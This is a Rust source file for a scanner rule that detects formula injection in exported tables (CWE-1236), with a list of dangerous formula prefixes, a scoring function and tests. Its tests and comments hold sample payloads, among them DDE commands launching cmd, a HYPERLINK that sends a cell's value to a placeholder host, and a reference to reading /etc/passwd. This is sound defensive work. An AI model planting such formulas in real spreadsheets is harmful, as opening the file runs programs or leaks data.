//! Formulas in what is opened as a table.
//!
//! **What it finds.** A cell that begins with a sign of a formula and starts a program (DDE, `=cmd|'/C …'!A0`, `CALL`,
//! `EXEC`), fetches from an address (`IMPORTXML`, `WEBSERVICE`), or hides an address that is made of other cells
//! (`HYPERLINK`).
//!
//! **Why it matters.** Whoever opens the exported table runs it: programs start, cells are sent away (CWE-1236).
//!
//! **Example.** `=cmd|'/C calc'!A0`
//!
//! Numbers, mail addresses, and formulas that only compute are left alone; a plain link is only mentioned.

use crate::{
    detector::{Detector, Finds, Hit, Outcome},
    text::View,
};
use palisade_model::Severity;

pub(crate) static FORMULA: Detector = Detector {
    class: "guard.injection.formula",
    version: "1",
    severity: Severity::High,
    title: "Formula in a cell",
    remediation: "Write an apostrophe before cells that begin with =, +, - or @ when a table is exported.",
    references: &["CWE-1236"],
    finds: Finds::Places {
        needles: &[
            b"|'",
            b"| '",
            b"dde(",
            b"ddeauto",
            b"hyperlink(",
            b"importxml(",
            b"importdata(",
            b"importhtml(",
            b"importfeed(",
            b"importrange(",
            b"webservice(",
            b"=image(",
            b"=call(",
            b"=exec(",
            b"register.id(",
            b"=fopen(",
            b"+exec(",
            b"@exec(",
            b"-exec(",
            b"rtd(",
            b"='file:",
        ],
        confirm,
    },
};

/// Bytes of a cell before and after what it calls; formulas that attack are short.
const CELL_BYTES_MAX: usize = 256;

fn confirm(view: &View<'_>, at: usize) -> Outcome {
    let bytes = view.bytes();
    // A bar before a quote stands in every second script; a program's name before it does not.
    let exchange = bytes[at] == b'|';
    if exchange && (program_before(bytes, at) < PROGRAM_BYTES_MIN || !exchanges(line_from(bytes, at))) {
        return Outcome::Clean { until: at + 1 };
    }
    let Some(start) = cell_start(bytes, at) else { return Outcome::Clean { until: at + 1 } };
    let end = at + line_from(bytes, at).len();
    let end = view.slice(0..bytes.len()).floor_char_boundary(end);
    let cell = &bytes[start..end];
    let called = &bytes[at..end];
    let Some(confidence) = judge(&bytes[start..at], called, cell) else { return Outcome::Clean { until: at + 1 } };
    let hit = Hit::text(start..end, None, confidence, "The cell is a formula that acts when the table is opened.");
    Outcome::Found(if confidence < 0.7 { hit.rated(Severity::Low) } else { hit })
}

/// The rest of the line of `at`, as far as it is read.
fn line_from(bytes: &[u8], at: usize) -> &[u8] {
    let rest = &bytes[at..bytes.len().min(at + CELL_BYTES_MAX)];
    &rest[..memchr::memchr2(b'\n', b'\r', rest).unwrap_or(rest.len())]
}

/// Where the cell of the call at `at` begins with a sign of a formula: at the text's or the line's beginning, or
/// behind a separator.
fn cell_start(bytes: &[u8], at: usize) -> Option<usize> {
    let low = at.saturating_sub(CELL_BYTES_MAX);
    // The sign may be a part of the needle.
    let window = &bytes[low..=at];
    let line = window.iter().rposition(|byte| matches!(byte, b'\n' | b'\r')).map_or(0, |end| end + 1);
    let begins = |place: usize| {
        let rest = &window[place..];
        let signs = rest.iter().take_while(|byte| matches!(byte, b'=' | b'+' | b'-' | b'@' | b' ')).count();
        let sign = matches!(rest.first(), Some(b'=' | b'+' | b'-' | b'@'));
        let after = bytes.get(low + place + signs);
        sign && signs <= 4 && after.is_some_and(|byte| byte.is_ascii_alphanumeric() || b"(\"'".contains(byte))
    };
    let first = line + window[line..].iter().take_while(|byte| b" \t\"';,".contains(byte)).count();
    let at_line = (low + line == 0 || line > 0) && first < window.len() && begins(first);
    if at_line {
        return Some(low + first);
    }
    let separated = |place: &usize| b",;\t\"".contains(&window[place - 1]) && begins(*place);
    (line + 1..window.len()).find(separated).map(|place| low + place)
}

/// How sure it is that the formula that begins with `before` and goes on with `called` attacks.
fn judge(before: &[u8], called: &[u8], cell: &[u8]) -> Option<f64> {
    if called.starts_with(b"|") {
        return (!before.is_empty()).then_some(0.93);
    }
    let lower = called.to_ascii_lowercase();
    let has = |words: &[&[u8]]| words.iter().any(|word| memchr::memmem::find(&lower, word).is_some());
    let name = lower.strip_prefix(b"=").or(lower.strip_prefix(b"+")).or(lower.strip_prefix(b"@")).unwrap_or(&lower);
    let address = has(&[b"://", b"\\\\"]);
    let gathers = cell.contains(&b'&') || has(&[b"concat", b"char("]);
    let (closed, quoted) = (called.contains(&b')'), called.contains(&b'"'));
    Some(match name {
        // A cell of another file on the machine: `='file:///etc/passwd'#$passwd.A1`.
        _ if name.starts_with(b"'file:") => memchr::memmem::find(name, b"'#$").map(|_| 0.88)?,
        _ if name.starts_with(b"dde") => 0.9,
        _ if quoted
            && (name.starts_with(b"exec(") || name.starts_with(b"call(") || name.starts_with(b"register.id(")) =>
        {
            0.88
        }
        _ if name.starts_with(b"fopen(") => 0.7,
        _ if name.starts_with(b"hyperlink(") && address && gathers => 0.88,
        _ if name.starts_with(b"hyperlink(") && address && closed => 0.5,
        _ if (name.starts_with(b"import") || name.starts_with(b"webservice(") || name.starts_with(b"image("))
            && (address || gathers) =>
        {
            if gathers || name.starts_with(b"webservice(") || name.starts_with(b"importxml(") { 0.88 } else { 0.82 }
        }
        _ if name.starts_with(b"rtd(") && closed && quoted => 0.7,
        _ => return None,
    })
}

/// Bytes of the name of a program.
const PROGRAM_BYTES_MIN: usize = 2;
const PROGRAM_BYTES_MAX: usize = 32;

/// Bytes of the name of a program that ends before `at`.
fn program_before(bytes: &[u8], at: usize) -> usize {
    let in_name = |byte: &&u8| byte.is_ascii_alphanumeric() || **byte == b'.';
    bytes[..at].iter().rev().take(PROGRAM_BYTES_MAX).take_while(in_name).count()
}

/// True for the end of a dynamic data exchange, behind the program: a topic in quotes, and a cell.
fn exchanges(called: &[u8]) -> bool {
    let (Some(open), Some(_)) = (memchr::memchr(b'\'', called), memchr::memchr(b'!', called)) else { return false };
    let topic = &called[open + 1..];
    let mut quotes = memchr::memchr_iter(b'\'', topic);
    quotes.any(|close| topic[close + 1..].trim_ascii_start().starts_with(b"!"))
}

#[cfg(test)]
mod tests {
    use crate::testing::check;

    #[test]
    fn formula() {
        check(
            "guard.injection.formula",
            &[
                ("=cmd|'/C calc'!A0", 0..17),
                ("id\n7;=msexcel|'\\..\\cmd.exe /c x'!''", 5..35),
                ("Anna,@SUM(1+1)*cmd|' /C calc'!A0", 5..32),
                ("+rundll32|'url.dll,OpenURL x'!A", 0..31),
                ("=HYPERLINK(\"https://x.example/?a=\"&A1,\"open\")", 0..45),
                ("=IMPORTXML(CONCAT(\"https://x.example/\",A2),\"//a\")", 0..49),
                ("name\n=WEBSERVICE(\"https://x.example/\")", 5..38),
                ("=DDE(\"cmd\";\"/C calc\";\"a\")", 0..25),
                ("='file:///srv/list.ods'#$first.A1", 0..33),
            ],
            &[
                "=SUM(A1:A9)",
                "-5,+49 30 1234,@anna,=1",
                "Use `=HYPERLINK(A1)` to make a link",
                "grep -c 'a'|'b'",
                "let link = hyperlink(address)",
                "x | 'y'",
                "-call('a')",
            ],
        );
    }
}
